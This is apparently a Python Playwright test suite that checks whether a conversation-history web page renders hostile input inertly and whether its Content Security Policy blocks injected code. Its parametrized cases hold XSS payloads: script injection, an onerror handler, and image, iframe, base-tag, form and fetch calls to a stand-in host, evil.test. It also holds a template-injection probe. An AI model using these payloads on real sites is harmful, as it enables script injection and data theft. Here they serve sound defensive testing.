"""Whatever people and models wrote, the page of their conversations only shows it."""

import re
from urllib.parse import quote, urlsplit

import pytest
from playwright.async_api import Route

from domain.history import Record
from domain.message import RoomKind
from entrypoints.web.history import templates
from tests.browser.corpus import CORPUS, RUN
from tests.browser.watched import Watched
from tests.fakes.numbered_history import NumberedHistory, record
from tests.integration.web.reading import Library

pytestmark = [pytest.mark.anyio, pytest.mark.timeout(600)]


def hostile(number: int) -> Record:
    """A record in which everything that people choose is hostile."""
    evil = CORPUS[number - 1]
    return record(
        number, question=evil, answer=evil, nick=evil, room_title=evil, room_kind=RoomKind.GROUP
    )


async def test_x2_hostile_conversations_are_inert(watched: Watched) -> None:
    assert len(CORPUS) >= 60
    library = Library(history=NumberedHistory(count=len(CORPUS), make=hostile))
    token = library.links.issue()
    asked = [f"/history/{token}?page={number}" for number in (1, 2)]

    async with library.open() as address:
        for path in asked:
            await watched.page.goto(f"http://{address.host}:{address.port}{path}")
            await watched.page.mouse.move(400, 500)
            await watched.page.keyboard.press("Tab")
            assert await watched.evils() == {}

    shown = [urlsplit(url) for url in watched.requests]
    assert [f"{one.path}?{one.query}" for one in shown] == asked


async def test_x2_hostile_names_and_searches_are_inert(watched: Watched) -> None:
    library = Library()
    token = library.links.issue()

    async with library.open() as address:
        here = f"http://{address.host}:{address.port}/history/{token}"
        for evil in CORPUS:
            library.history.nick = evil
            await watched.page.goto(f"{here}?q={quote(evil[:200])}")
            assert await watched.evils() == {}, evil

    assert {url.partition("?")[0] for url in watched.requests} == {here}


async def test_x2_what_stands_there_is_what_was_written(watched: Watched) -> None:
    evil = f"<script>{RUN}</script>{{{{7*7}}}}"
    library = Library(
        history=NumberedHistory(
            count=1, make=lambda number: record(number, question=evil, answer=evil)
        )
    )

    async with library.open() as address:
        url = f"http://{address.host}:{address.port}/history/{library.links.issue()}"
        await watched.page.goto(url)

        assert await watched.page.inner_text(".question .said") == evil
        assert await watched.page.inner_text(".answer .markdown") == evil


@pytest.mark.parametrize(
    "attempt",
    [
        f"s = document.createElement('script'); s.textContent = '{RUN}'; document.body.append(s)",
        f"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"{RUN}\">')",
        "i = new Image(); i.src = 'https://evil.test/x'",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.test/></iframe>')",
        "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
        "document.body.insertAdjacentHTML('beforeend', '<style>p { color: red }</style>')",
        "document.head.insertAdjacentHTML('beforeend', '<base href=https://evil.test/>')",
        "s = document.forms[0]; s.action = 'https://evil.test/'; s.submit()",
        "fetch('https://evil.test/').catch(() => 0)",
    ],
    ids=["script", "handler", "image", "frame", "style", "sheet", "base", "form", "fetch"],
)
async def test_x2_the_policy_stops_what_would_have_got_through(
    watched: Watched, attempt: str
) -> None:
    """Should escaping and sanitising ever fail, this is what is left."""
    library, reached = Library(), list[str]()

    async def record_and_abort(route: Route) -> None:
        reached.append(route.request.url)
        await route.abort()

    await watched.page.route(re.compile(r"evil\.test"), record_and_abort)
    async with library.open() as address:
        url = f"http://{address.host}:{address.port}/history/{library.links.issue()}"
        await watched.page.goto(url)
        await watched.page.evaluate(f"() => {{ let s, i; {attempt} }}")
        await watched.until(lambda: bool(watched.violations))

        assert watched.hits == []
        assert watched.dialogs == []
        assert reached == []


async def test_the_page_is_not_shown_within_another(watched: Watched) -> None:
    library = Library()
    async with library.open() as address:
        path = f"/history/{library.links.issue()}"
        await watched.page.goto(f"http://{address.host}:{address.port}/livez")
        await watched.page.set_content(f"<iframe src='http://{address.host}:{address.port}{path}'>")

        await watched.until(lambda: any("frame-ancestors" in one for one in watched.complaints))


def test_the_style_is_the_only_thing_the_policy_names() -> None:
    assert templates.POLICY.count("sha256-") == 1
